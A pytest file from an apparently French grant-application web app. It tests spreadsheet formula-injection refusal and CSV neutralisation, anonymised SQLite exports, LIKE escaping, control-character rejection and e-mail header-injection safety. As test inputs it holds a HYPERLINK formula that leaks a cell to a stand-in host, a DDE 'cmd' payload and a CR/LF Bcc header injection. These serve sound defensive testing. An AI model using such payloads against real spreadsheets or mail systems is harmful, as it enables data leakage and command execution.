"""Text from users against spreadsheets, e-mails and searches, and what each export lets out.

- Names and titles that start like a formula are refused at input, with a French message next
  to the field and what was typed kept; what was stored before is neutralised in the SCDL CSV
  (read back) as in the Excel workbook.
- The anonymised SQLite holds aggregates only: no cell anywhere carries a name, SIRET, RNA,
  reference or text of an applicant, and a file not retained cannot be singled out.
- « % » and « _ » typed in the reviewers' association search are matched literally.
- Control characters are refused in every single-line field (text areas keep line breaks), and
  a CR/LF already stored in an association's name never stops its e-mails.
"""
import csv
import html
import importlib
import io
import pkgutil
import re
import sqlite3

import pytest
from flask_wtf import FlaskForm

import aap
from aap.documents.opendata import build_opendata_sqlite, build_scdl_csv
from aap.extensions import db
from aap.forms import AppForm
from aap.mail import deliver_pending
from aap.models import Application, Association, Call, OutboxMessage, User
from aap.textrules import csv_text, header_text, like_pattern, looks_like_formula
from aap.validators import CONTROL_MESSAGE, CONTROL_MULTILINE_MESSAGE, FORMULA_MESSAGE

from . import factories
from . import factories_applications as fa
from . import factories_documents as fd

FORMULAS = ['=HYPERLINK("http://pirate.example/?v="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "  =1+1"]
PASSWORD = "un-mot-de-passe-solide"


def page_of(response):
    return html.unescape(response.get_data(as_text=True))


def assert_refused(response, message, typed):
    """A French page (not a redirect) with the message and what was typed, shown back."""
    assert response.status_code in (200, 400, 422), response.status_code
    page = page_of(response)
    assert message in page
    assert typed.strip() in page, f"typed value not kept: {typed!r}"
    return page


def field_errors(page, field_id):
    """The error messages shown under a field (DSFR « fr-messages-group » of the field)."""
    match = re.search(rf'id="{field_id}-messages"[^>]*>(.*?)</div>', page, re.S)
    assert match, f"no messages group for {field_id}"
    return re.findall(r'<p class="fr-message fr-message--error">(.*?)</p>', match.group(1), re.S)


def identity_data(association):
    from aap.associations.forms import IdentityForm
    data = {k: ("" if v is None else str(v)) for k, v in IdentityForm.initial(association).items()}
    data["legal_form"] = data.get("legal_form") or "association"
    return data


# --- formulas refused at input -------------------------------------------------------------------

@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["first_name", "last_name", "association_name"])
def test_sign_up_refuses_names_that_start_like_a_formula(app, client, field, formula):
    data = {"email": "nouvelle@example.org", "password": PASSWORD, "password_confirm": PASSWORD,
            "first_name": "Nina", "last_name": "Nouvelle", "association_name": "Asso nouvelle", "accept": "y",
            field: formula}
    assert_refused(client.post_form("/inscription", data), FORMULA_MESSAGE, formula)
    assert db.session.scalar(db.select(User).where(User.email == "nouvelle@example.org")) is None


@pytest.mark.parametrize("field", ["name", "acronym", "representative_name", "commune"])
def test_association_identity_refuses_formula_names(app, client, login_as, applicant, field):
    factories.complete_identity(applicant.association)
    login_as(applicant)
    data = {**identity_data(applicant.association), field: FORMULAS[0]}
    assert_refused(client.post_form("/association", data), FORMULA_MESSAGE, FORMULAS[0])
    db.session.expire_all()
    association = db.session.get(Association, applicant.association_id)
    assert association.name == "Réussir Ensemble" and association.acronym == "ASSO"


def test_a_name_with_a_hyphen_or_a_plus_inside_is_accepted(app, client, login_as, applicant):
    factories.complete_identity(applicant.association)
    login_as(applicant)
    data = {**identity_data(applicant.association), "name": "Jean-Paul + Marie, l'@telier", "acronym": "J-P"}
    assert client.post_form("/association", data).status_code == 302
    db.session.expire_all()
    assert db.session.get(Association, applicant.association_id).name == "Jean-Paul + Marie, l'@telier"


@pytest.mark.parametrize("section, field", [("projet", "title"), ("attestation", "attestation_name")])
def test_application_titles_and_names_refuse_formulas(app, client, login_as, applicant, section, field):
    call = factories.call()
    draft = fa.empty_draft(call, applicant.association, applicant)
    login_as(applicant)
    data = {**fa.VALID[section], field: FORMULAS[1]}
    assert_refused(fa.post_section(client, draft, section, data), FORMULA_MESSAGE, FORMULAS[1])
    response = fa.autosave(client, draft, section, data)
    assert response.status_code == 422
    assert FORMULA_MESSAGE in response.get_json()["errors"][field]
    db.session.expire_all()
    assert db.session.get(Application, draft.id).version == draft.version


def test_call_title_and_team_names_refuse_formulas(app, client, login_as, staff):
    login_as(staff)
    assert_refused(client.post_form("/instruction/appels/nouveau", {"title": FORMULAS[3], "slug": "aap-x"}),
                   FORMULA_MESSAGE, FORMULAS[3])
    assert db.session.scalar(db.select(Call).where(Call.slug == "aap-x")) is None
    data = {"email": "eva@example.org", "first_name": FORMULAS[2], "last_name": "Luatrice", "role": "reviewer",
            "region_code": ""}
    assert_refused(client.post_form("/equipe/inviter", data), FORMULA_MESSAGE, FORMULAS[2])
    assert db.session.scalar(db.select(User).where(User.email == "eva@example.org")) is None


def test_criterion_and_document_labels_refuse_formulas(app, client, login_as, staff):
    call = factories.call(status="draft")
    login_as(staff)
    criterion = call.criteria[0]
    data = {"criteria-0-id": str(criterion.id), "criteria-0-label": FORMULAS[0],
            "criteria-0-description": "", "criteria-0-weight": "1", "criteria-0-scale_max": "5"}
    assert_refused(client.post_form(f"/instruction/appels/{call.id}/criteres", data), FORMULA_MESSAGE, FORMULAS[0])
    document = call.pieces[0]
    data = {"documents-0-id": str(document.id), "documents-0-label": FORMULAS[3], "documents-0-mandatory": "y",
            "documents-0-formats": "pdf"}
    assert_refused(client.post_form(f"/instruction/appels/{call.id}/pieces", data), FORMULA_MESSAGE, FORMULAS[3])
    db.session.expire_all()
    assert not looks_like_formula(db.session.get(Call, call.id).criteria[0].label)
    assert not looks_like_formula(db.session.get(Call, call.id).pieces[0].label)


# --- formulas neutralised in the exports -------------------------------------------------------

def test_the_scdl_csv_neutralises_every_cell_that_a_spreadsheet_would_run(app):
    """Stored before the rule (or by staff): the CSV read back has no cell starting like a
    formula, and each such value is there, readable, behind an apostrophe."""
    call = factories.call(slug="aap-csv", year=2025, title="@SUM(A1:A9) appel")
    first = fd.winner(call, association_record=fd.association(FORMULAS[0]), title="-2+3 projet")
    second = fd.winner(call, association_record=fd.association("\tTabulée"))
    third = fd.winner(call, association_record=fd.association("Sans souci"))
    fd.signed(first, number="+33-REF")  # (the open data publishes signed conventions, by their number)
    fd.signed(second)
    fd.signed(third)
    rows = list(csv.DictReader(io.StringIO(build_scdl_csv(call).decode("utf-8"))))
    assert len(rows) == 3
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if looks_like_formula(c)], cells
    names = {row["nomBeneficiaire"] for row in rows}
    assert names == {"'" + FORMULAS[0], "'\tTabulée", "Sans souci"}
    assert {row["dispositifAide"] for row in rows} == {"'@SUM(A1:A9) appel"}
    assert "'+33-REF" in {row["referenceDecision"] for row in rows}
    assert any(row["objet"].endswith(": -2+3 projet") for row in rows)  # not at the start: kept as is
    # The same rule decides for the Excel workbook (a quote-prefixed text cell there).
    assert csv_text("=1") == "'=1" and csv_text("Lyon") == "Lyon" and csv_text(None) is None


# --- the anonymised SQLite ---------------------------------------------------------------------

def _distinct_identity(association, n):
    association.acronym = f"SIGLE{n:03d}X"
    association.siret = f"{81234567800000 + n:014d}"
    association.rna = f"W{987650000 + n:09d}"
    association.representative_name = f"Représentante Numéro{n:03d}"
    association.contact_email = f"contact{n:03d}@asso{n:03d}.example.org"
    association.address = f"{n} impasse Singulière{n:03d}"
    db.session.commit()


@pytest.fixture
def published_call(app, reviewer):
    """A decided call: 4 winners (3 in one région), 4 files not retained in Auvergne-Rhône-Alpes,
    one alone in Corse, one on the waiting list in Île-de-France, one inadmissible, one whose
    decision is not published, one still in review. Every file has its own words and numbers."""
    call = factories.call(slug="aap-anonyme", year=2025)
    files = []

    def add(n, region, departement, outcome=None, published=True, status=None, requested=None):
        association = fd.association(f"Association Singulière {n:03d}", departement=departement, region=region)
        _distinct_identity(association, n)
        fields = dict(title=f"Projet unique {n:03d} de mentorat", summary=f"Résumé confidentiel {n:03d}.",
                      objectives=f"Objectifs secrets {n:03d}", partners=f"Partenaire caché {n:03d}",
                      attestation_name=f"Signataire Numéro{n:03d}",
                      requested_cents=requested or (50_000_00 + n * 1_01), young_count=1000 + n,
                      mentor_count=2000 + n)
        if outcome is None:
            application = factories.application(call, association, status=status or "in_review", **fields)
        else:
            application = fd.winner(call, association_record=association, outcome=outcome, published=published,
                                    amount_cents=(40_000_00 + n * 1_00) if outcome == "selected" else None,
                                    **fields)
        fd.review(application, reviewer, [n % 6, 3, 4])
        files.append(application)
        return application

    for n in range(1, 4):
        add(n, "84", "69", "selected")
    add(4, "93", "13", "selected")
    for n in range(5, 9):
        add(n, "84", "69", "rejected")
    lonely = add(9, "94", "2A", "rejected", requested=77_777_77)
    add(10, "11", "75", "waitlisted")
    add(11, "84", "69", status="inadmissible")
    add(12, "84", "69", "selected", published=False)
    add(13, "84", "69")
    return call, files, lonely


def _secrets(application):
    association = application.association
    values = [association.name, association.acronym, association.siret, association.rna,
              association.representative_name, association.contact_email, association.address,
              application.reference, application.title, application.summary, application.objectives,
              application.partners, application.attestation_name]
    return [v for v in values if v]


def test_the_anonymised_sqlite_has_no_trace_of_any_applicant(app, published_call, tmp_path):
    call, files, _lonely = published_call
    conn = sqlite3.connect(build_opendata_sqlite(call, tmp_path / "resultats.sqlite"))
    tables = [name for (name,) in conn.execute("select name from sqlite_master where type = 'table'")]
    cells = []
    for table in tables:
        for row in conn.execute(f'select * from "{table}"'):
            cells += [str(cell) for cell in row if cell is not None]
    assert cells
    dump = "\n".join(conn.iterdump())
    for application in files:
        for secret in _secrets(application):
            assert not [c for c in cells if secret in c], (secret, table)
            assert secret not in dump, secret
    # No row per file: nothing in any cell is a file's own figure either.
    for application in files:
        assert str(application.young_count) not in cells and str(application.mentor_count) not in cells


def test_a_file_not_retained_cannot_be_singled_out(app, published_call, tmp_path):
    call, files, lonely = published_call
    conn = sqlite3.connect(build_opendata_sqlite(call, tmp_path / "resultats.sqlite"))
    conn.row_factory = sqlite3.Row
    regions = [dict(r) for r in conn.execute("select * from regions")]
    outcomes = {r["outcome"]: dict(r) for r in conn.execute("select * from outcomes")}
    # The lonely file of Corse: no row of Corse but its winners (none here), its amount nowhere.
    assert not [r for r in regions if r["region"] == "Corse"]
    everything = [value for r in regions + list(outcomes.values()) for value in r.values()]
    assert 777777.77 not in everything and 77777777 not in everything
    # Every group shown by région of files not retained has at least 3 files.
    for row in regions:
        if row["outcome"] != "Retenu" and row["region_code"] != "autres":
            assert row["files"] >= 3, row
    by_key = {(r["region"], r["outcome"]): r["files"] for r in regions}
    assert by_key[("Auvergne-Rhône-Alpes", "Non retenu")] == 4
    assert by_key[("Auvergne-Rhône-Alpes", "Retenu")] == 3
    other = "Autres régions (moins de 3 dossiers : secret statistique)"
    assert by_key[(other, "Non retenu")] == 1 and by_key[(other, "Liste d'attente")] == 1
    assert by_key[(other, "Irrecevable")] == 1
    # National figures: counts always; sums and means only for groups of 3 files or more.
    assert {k: v["files"] for k, v in outcomes.items()} == {
        "Retenu": 4, "Non retenu": 5, "Liste d'attente": 1, "Irrecevable": 1, "Sans décision publiée": 2}
    for name in ("Liste d'attente", "Irrecevable", "Sans décision publiée"):
        row = outcomes[name]
        assert row["amount_requested"] is row["young_count"] is row["mean_score"] is row["amount_granted"] is None
    winners = [f for f in files if f.decision is not None and f.decision.published_at is not None
               and f.decision.outcome == "selected"]
    assert outcomes["Retenu"]["amount_granted"] == sum(f.decision.amount_cents for f in winners) / 100
    assert outcomes["Non retenu"]["young_count"] == sum(1000 + n for n in (5, 6, 7, 8, 9))


def test_the_documents_page_says_which_export_is_public(app, client, login_as, staff, published_call):
    call = published_call[0]
    login_as(staff)
    page = page_of(client.get(f"/instruction/appels/{call.id}/documents"))
    assert "Diffusion restreinte" in page and "Version pour le cabinet (sans noms d'évaluateurs ni IBAN)" in page
    assert page.count("À publier") == 2


# --- LIKE: « % » and « _ » typed are plain characters ------------------------------------------

def test_the_reviewers_association_search_matches_percent_and_underscore_literally(app, client, login_as,
                                                                                   reviewer):
    for name in ("100% Mentorat", "1000 Mentorat", "Asso_Jeunes", "AssoXJeunes"):
        db.session.add(Association(name=name))
    db.session.commit()
    login_as(reviewer)
    page = page_of(client.get("/evaluation/liens-d-interets", query_string={"q": "100%"}))
    assert "100% Mentorat" in page and "1000 Mentorat" not in page
    page = page_of(client.get("/evaluation/liens-d-interets", query_string={"q": "asso_j"}))
    assert "Asso_Jeunes" in page and "AssoXJeunes" not in page
    page = page_of(client.get("/evaluation/liens-d-interets", query_string={"q": "%%"}))
    assert "Mentorat" not in page and "Jeunes" not in page
    assert like_pattern("a%b_c\\") == "%a\\%b\\_c\\\\%" and like_pattern("12", prefix="") == "12%"


# --- control characters ----------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["Réussir\r\nBcc: pirate@example.org", "Réussir\nEnsemble", "Réu\tssir",
                                   "Réussir\x1b[31m", "Réu\u200bssir", "Réussir\u2028Ensemble", "Ré\x85ussir"])
def test_control_characters_are_refused_in_single_line_fields(app, client, login_as, applicant, value):
    factories.complete_identity(applicant.association)
    login_as(applicant)
    data = {**identity_data(applicant.association), "commune": "Ly\x07on", "name": value}
    page = page_of(client.post_form("/association", data))
    assert field_errors(page, "name") == field_errors(page, "commune") == [CONTROL_MESSAGE]
    db.session.expire_all()
    association = db.session.get(Association, applicant.association_id)
    assert association.name == "Réussir Ensemble" and association.commune == "Lyon"


def test_control_characters_on_other_forms(app, client, login_as, applicant, admin):
    data = {"email": "nina@example.org", "password": PASSWORD, "password_confirm": PASSWORD,
            "first_name": "Ni\x0bna", "last_name": "Nouvelle", "association_name": "Asso\r\nnouvelle", "accept": "y"}
    page = page_of(client.post_form("/inscription", data))
    assert field_errors(page, "first_name") == field_errors(page, "association_name") == [CONTROL_MESSAGE]
    assert field_errors(page, "last_name") == []
    assert db.session.scalar(db.select(User).where(User.email == "nina@example.org")) is None
    login_as(admin)  # a GET filter: the message next to the field, never a server error
    response = client.get("/administration/journal", query_string={"acteur": "agent\x07@example.org"})
    assert response.status_code == 200 and CONTROL_MESSAGE in page_of(response)


def test_text_areas_keep_line_breaks_and_refuse_other_control_characters(app, client, login_as, applicant):
    call = factories.call()
    draft = fa.empty_draft(call, applicant.association, applicant)
    login_as(applicant)
    data = {**fa.VALID["projet"], "summary": "Première ligne\r\nDeuxième ligne\tavec une tabulation"}
    assert fa.post_section(client, draft, "projet", data).status_code == 303
    db.session.expire_all()
    assert db.session.get(Application, draft.id).summary == "Première ligne\nDeuxième ligne\tavec une tabulation"
    for value in ("Texte\x1b[2J effacé", "Texte\x08", "Texte\u202eà l'envers"):
        response = fa.post_section(client, draft, "projet", {**fa.VALID["projet"], "objectives": value})
        assert CONTROL_MULTILINE_MESSAGE in page_of(response), value
    db.session.expire_all()
    assert db.session.get(Application, draft.id).objectives == fa.VALID["projet"]["objectives"]


def test_every_form_of_the_application_applies_the_rule():
    """A new form gets the control-character rule by deriving from AppForm, like every form."""
    for module in pkgutil.walk_packages(aap.__path__, "aap."):
        if ".demo" not in module.name:
            importlib.import_module(module.name)

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = [cls for cls in subclasses(FlaskForm) if cls.__module__.startswith("aap.")]
    assert len(ours) > 20
    assert [cls.__qualname__ for cls in ours if not issubclass(cls, AppForm)] == []


# --- e-mails: a header never carries a line break ---------------------------------------------

def test_an_association_whose_stored_name_has_a_line_break_still_gets_its_mail(app, client, login_as, applicant,
                                                                                smtp_server):
    association = db.session.get(Association, applicant.association_id)
    association.name = "Réussir\r\nBcc: pirate@example.org\r\n\r\nEnsemble"  # stored before the rule
    db.session.commit()
    login_as(applicant)
    response = client.post_form("/association/membres", {"email": "collegue@example.org"})
    assert response.status_code in (302, 303)
    # A message stored with a CR/LF in its subject before the fix is delivered too.
    from aap import timeutil
    db.session.add(OutboxMessage(to="ancien@example.org", subject="Ancien\r\nsujet\x07 cassé", body="Bonjour",
                                 attachments=[], next_attempt_at=timeutil.now()))
    db.session.commit()
    assert deliver_pending() == (2, 0)
    received = {m["To"]: m for m in smtp_server.messages}
    invitation = received["collegue@example.org"]
    assert invitation["Subject"] == ("Invitation à rejoindre Réussir Bcc: pirate@example.org Ensemble "
                                     "sur AAP « 1 jeune 1 mentor »")
    assert invitation["Bcc"] is None and "pirate" not in str(invitation.get_all("To"))
    assert received["ancien@example.org"]["Subject"] == "Ancien sujet cassé"
    assert all(m.sent_at is not None and not m.failed for m in factories.outbox())
    assert header_text("Sans souci") == "Sans souci"
